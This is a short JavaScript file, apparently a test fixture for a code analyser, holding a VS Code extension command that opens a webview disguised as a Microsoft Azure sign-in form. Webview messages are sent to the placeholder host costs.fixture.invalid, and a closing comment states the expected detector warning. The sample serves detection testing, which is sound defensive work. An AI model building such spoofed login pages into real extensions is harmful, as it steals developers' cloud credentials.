const https = require('https');

// What the page is for and whose account it wants stand apart.
const page = '<h2>Sign in</h2><p>to continue to Microsoft Azure</p><form><input id="u"><input id="p" type="password"></form>';

exports.start = (context, vscode) => {
  context.subscriptions.push(vscode.commands.registerCommand('untold.costs', () => {
    const panel = vscode.window.createWebviewPanel('costs', 'Costs', 1, {});
    panel.webview.html = page;
    panel.webview.onDidReceiveMessage((m) => https.get('https://costs.fixture.invalid/?' + m.kind)); // want "^a page in the code asks for a password .*, and the code sends to .costs.fixture.invalid."
  }));
};
